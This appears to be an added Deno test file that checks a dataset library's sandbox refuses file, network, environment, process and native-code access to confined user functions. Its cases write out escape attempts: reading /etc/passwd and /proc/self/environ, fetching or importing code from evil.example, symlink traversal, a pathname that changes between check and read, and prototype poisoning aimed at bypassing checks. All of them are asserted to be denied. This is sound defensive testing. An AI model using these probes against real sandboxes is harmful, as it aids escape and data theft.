@@ -1,0 +1,228 @@
+/**
+ * What a confined function is denied, and that it is told so: each of the cases is one that works
+ * where nothing confines it.
+ *
+ * @module
+ */
+import { Dataset, udf } from "../../mod.ts";
+import { assertEquals, assertMatch, assertStringIncludes } from "../assert.ts";
+import { type Came, Sandbox } from "./sandbox_lib.ts";
+
+/** By another program: `Deno.symlink` asks for all of the disk. */
+async function link(target: string, path: string): Promise<void> {
+  const code = "import os, sys; os.symlink(sys.argv[1], sys.argv[2])";
+  await new Deno.Command("python3", { args: ["-c", code, target, path] }).output();
+}
+
+function messageOf(came: Came | undefined, code = "permission_denied"): string {
+  if (came === undefined || "value" in came) {
+    throw new Error(`this was not denied: ${Deno.inspect(came)}`);
+  }
+  assertEquals(came.code, code, came.message);
+  return came.message;
+}
+
+Deno.test("a confined function reads in the data roots, and computes as any other", async () => {
+  await using sandbox = await Sandbox.open({ "data/a.txt": "one\ntwo\n" });
+  const { folder } = sandbox;
+  const lines = Dataset.textLines(Dataset.listFiles(`${folder}/data/*.txt`));
+  assertEquals(await sandbox.elements(lines), [{ value: "one" }, { value: "two" }]);
+  assertEquals(
+    await sandbox.evaluateAll([
+      `globalThis.Deno.readTextFileSync("${folder}/data/a.txt").length`,
+      `globalThis.Deno.readTextFile("${folder}/data/../data/a.txt").then((text) => text.length)`,
+      `new URL("a.txt", "file://${folder}/data/").pathname.endsWith("a.txt")`,
+      `crypto.subtle.digest("SHA-256", new Uint8Array(3)).then((hash) => hash.byteLength)`,
+      `new Promise((resolve) => setTimeout(resolve, 1, 7))`,
+      `fetch("data:text/plain,hello").then((response) => response.text())`,
+    ]),
+    [{ value: 8 }, { value: 8 }, { value: true }, { value: 32 }, { value: 7 }, { value: "hello" }],
+  );
+});
+
+Deno.test("a denial names operator, function, what was asked for and the flag that grants it", async () => {
+  await using sandbox = await Sandbox.open();
+  const asking = Dataset.range(2).map((x) =>
+    x === 0 ? globalThis.fetch("http://evil.example/") : x
+  );
+  const [denied, next] = await sandbox.elements(asking);
+  const message = messageOf(denied);
+  assertMatch(message, /^map \(operator 0\): the function failed at element 0 /);
+  assertStringIncludes(message, 'globalThis.fetch("http://evil.example/")');
+  assertStringIncludes(message, 'net access to "evil.example:80"');
+  assertStringIncludes(message, "--allow-net=evil.example:80");
+  assertEquals(next, { value: 1 }); // it cost that element alone
+});
+
+Deno.test("a confined function has no files, network, environment, programs or native code", async () => {
+  await using sandbox = await Sandbox.open({ "secret.txt": "secret" });
+  const { folder } = sandbox;
+  const secret = `${folder}/secret.txt`;
+  const cases: [expression: string, asked: string][] = [
+    [`Deno.readTextFileSync("${secret}")`, `read access to "${secret}"`],
+    [`Deno.readTextFile("${folder}/data/../secret.txt")`, `--data-root=${folder}`],
+    [`Deno.readTextFileSync(new URL("file://${secret}"))`, "read access"],
+    [`Deno.readFileSync("/etc/passwd")`, "--data-root=/etc"],
+    [`Deno.openSync("/proc/self/environ")`, "access"],
+    [`[...Deno.readDirSync("/")]`, "read access"],
+    [`Deno.statSync("${secret}")`, "read access"],
+    [`Deno.writeTextFileSync("${folder}/data/new.txt", "x")`, `--allow-write=${folder}/data`],
+    [`Deno.openSync("${folder}/data/new.txt", { write: true, create: true })`, "write access"],
+    [`Deno.removeSync("${folder}/data")`, "write access"],
+    [`fetch("http://evil.example/")`, "--allow-net=evil.example:80"],
+    [`fetch("http://127.0.0.1:4567/")`, "--allow-net=127.0.0.1:4567"],
+    [`Deno.connect({ hostname: "evil.example", port: 7 })`, "--allow-net=evil.example:7"],
+    [`new WebSocket("ws://evil.example:8/")`, "--allow-net=evil.example:8"],
+    [`Deno.resolveDns("evil.example", "A")`, "net access"],
+    [`Deno.env.get("HOME")`, "env access"],
+    [`Deno.hostname()`, "sys access"],
+    [`new Deno.Command("deno").outputSync()`, "run access"],
+    [`Deno.dlopen("libc.so.6", {})`, "ffi access"],
+  ];
+  const came = await sandbox.evaluateAll(cases.map(([expression]) => expression));
+  for (const [i, [expression, asked]] of cases.entries()) {
+    assertStringIncludes(messageOf(came[i]), asked, expression);
+  }
+});
+
+Deno.test("a link does not lead out of the data roots", async () => {
+  await using sandbox = await Sandbox.open({ "secret.txt": "secret", "f.js": "export default 1;" });
+  const { folder } = sandbox;
+  await link(`${folder}/secret.txt`, `${folder}/data/link.txt`);
+  await link(folder, `${folder}/data/up`);
+  await link(`${folder}/f.js`, `${folder}/data/f.js`);
+  const expressions = [
+    `Deno.readTextFileSync("${folder}/data/link.txt")`,
+    `Deno.readTextFile("${folder}/data/up/secret.txt")`,
+    `Deno.openSync("${folder}/data/link.txt", { read: true })`,
+    `[...Deno.readDirSync("${folder}/data/up")]`,
+    `import("file://${folder}/data/f.js")`,
+    `import("file://${folder}/data/up/f.js")`,
+  ];
+  for (const came of await sandbox.evaluateAll(expressions)) {
+    assertStringIncludes(messageOf(came), "by a link");
+  }
+  const files = ["link.txt", "up/secret.txt"].map((name) => `${folder}/data/${name}`);
+  for (const came of await sandbox.elements(Dataset.textLines(files))) {
+    assertStringIncludes(messageOf(came), `read access to "${folder}/secret.txt"`);
+  }
+});
+
+Deno.test("what a function shows a check is what it gets", async () => {
+  await using sandbox = await Sandbox.open({ "data/a.txt": "a", "secret.txt": "secret" });
+  const { folder } = sandbox;
+  await link(`${folder}/secret.txt`, `${folder}/data/link.txt`);
+  const expressions = [
+    // A path that is another one when it is asked for again.
+    `(() => {
+      let asked = 0;
+      const path = new URL("file://${folder}/data/a.txt");
+      Object.defineProperty(path, "pathname", {
+        get: () => asked++ < 1 ? "${folder}/data/a.txt" : "${folder}/data/link.txt",
+      });
+      return Deno.readTextFileSync(path);
+    })()`,
+    // Built-ins that say yes to everything.
+    `(() => {
+      String.prototype.startsWith = () => true;
+      Set.prototype.has = () => true;
+      Array.prototype.includes = () => true;
+      return Deno.readTextFileSync("${folder}/data/link.txt");
+    })()`,
+    `import("node:worker_threads")`,
+    `fetch({ toString: () => "file://${folder}/data/link.txt" }).then((r) => r.text())`,
+    `fetch(new Request("file://${folder}/data/link.txt")).then((r) => r.text())`,
+  ];
+  const [path, builtIns, set, text, request] = await sandbox.evaluateAll(expressions);
+  assertEquals(path, { value: "a" });
+  for (const came of [builtIns, set, text, request]) messageOf(came);
+});
+
+Deno.test("modules are imported from data roots, and from nowhere else", async () => {
+  await using sandbox = await Sandbox.open({
+    "data/functions.ts":
+      "export const double = (x: number): number => x * 2; export const one = 1;",
+    "data/leading_out.ts": 'export { f } from "../outside.ts";',
+    "data/throwing.ts": 'throw new Error("no luck at all"); export const f = 1;',
+    "data/broken.ts": "export const f = (;",
+    "outside.ts": "export const f = (x: number): number => x;",
+  });
+  const { folder } = sandbox;
+  const url = (name: string) => `file://${folder}/data/${name}`;
+  const failed = "failed_precondition";
+  const cases: [url: string, fn: string, came: string | number, message?: string][] = [
+    [url("functions.ts"), "double", 0],
+    ["data:text/javascript,export const f = (x) => x - 1", "f", -1],
+    [url("../outside.ts"), "f", "permission_denied", `--data-root=${folder}`],
+    [url("leading_out.ts"), "f", "permission_denied", "outside.ts"],
+    [import.meta.resolve("../../world/sandbox/edge.ts"), "Edge", "permission_denied", "edge.ts"],
+    [url("none.ts"), "f", "not_found", "none.ts"],
+    [url("functions.ts"), "triple", "not_found", "it exports double, one"],
+    [url("functions.ts"), "one", "invalid_argument", "not a function"],
+    [url("throwing.ts"), "f", failed, "no luck at all"],
+    [url("broken.ts"), "f", failed, "broken.ts"],
+  ];
+  const came = await sandbox.elements(
+    cases.map(([url, fn]) => Dataset.range(1).map(udf(url, fn)))
+      .reduce((all, one) => all.concatenate(one)),
+  );
+  for (const [i, [url, , expected, message]] of cases.entries()) {
+    if (message === undefined) assertEquals(came[i], { value: expected }, url);
+    else assertStringIncludes(messageOf(came[i], expected as string), message, url);
+  }
+});
+
+Deno.test("remote modules, packages and built-in modules that reach the process are refused", async () => {
+  await using sandbox = await Sandbox.open({
+    "data/common.cjs": "module.constructor.registerHooks({}); exports.f = 1;",
+    "data/threads.ts": 'export { parentPort } from "node:worker_threads";',
+  });
+  const { folder } = sandbox;
+  const cases: [string, string][] = [
+    ["https://evil.example/f.ts", "--allow-udf-import=evil.example:443"],
+    ["http://127.0.0.1:9/f.ts", "--allow-udf-import=127.0.0.1:9"],
+    ["npm:left-pad", "npm:left-pad"],
+    ["jsr:@std/assert", "jsr:@std/assert"],
+    ["node:process", "node:process"],
+    ["node:fs", "node:fs"],
+    ["worker_threads", "node:worker_threads"],
+    [`file://${folder}/data/threads.ts`, "node:worker_threads"],
+    ["data:text/javascript,import 'node:v8'", "node:v8"],
+  ];
+  const imports = cases.map(([url]) => `import(${JSON.stringify(url)})`);
+  const came = await sandbox.evaluateAll([
+    ...imports,
+    `import("file://${folder}/data/common.cjs")`,
+  ]);
+  for (const [i, [url, message]] of cases.entries()) {
+    assertStringIncludes(messageOf(came[i]), message, url);
+  }
+  assertStringIncludes(messageOf(came.at(-1)), "CommonJS is shut off");
+});
+
+Deno.test("a pipeline makes no files where that was not granted, and is told who grants it", async () => {
+  await using sandbox = await Sandbox.open();
+  const [came] = await sandbox.elements(Dataset.range(3).cache(`${sandbox.folder}/data/cached`));
+  assertStringIncludes(messageOf(came), `--allow-write=${sandbox.folder}/data`);
+});
+
+Deno.test("what an operator grants is there", async () => {
+  const modules: Record<string, string> = { "/f.ts": "export const f = (x: number) => x + 41;" };
+  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
+    const text = modules[new URL(request.url).pathname];
+    const headers = { "content-type": "application/typescript" };
+    return new Response(text ?? "none", { status: text === undefined ? 404 : 200, headers });
+  });
+  const host = `127.0.0.1:${server.addr.port}`;
+  await using sandbox = await Sandbox.open({}, (folder) => ({
+    net: [host],
+    writeRoots: [`${folder}/data`],
+  }));
+  assertEquals(
+    await sandbox.evaluate(`fetch("http://${host}/f.ts").then((response) => response.status)`),
+    { value: 200 },
+  );
+  const cached = Dataset.range(3).cache(`${sandbox.folder}/data/cached`);
+  assertEquals(await sandbox.elements(cached), [{ value: 0 }, { value: 1 }, { value: 2 }]);
+  await server.shutdown();
+});
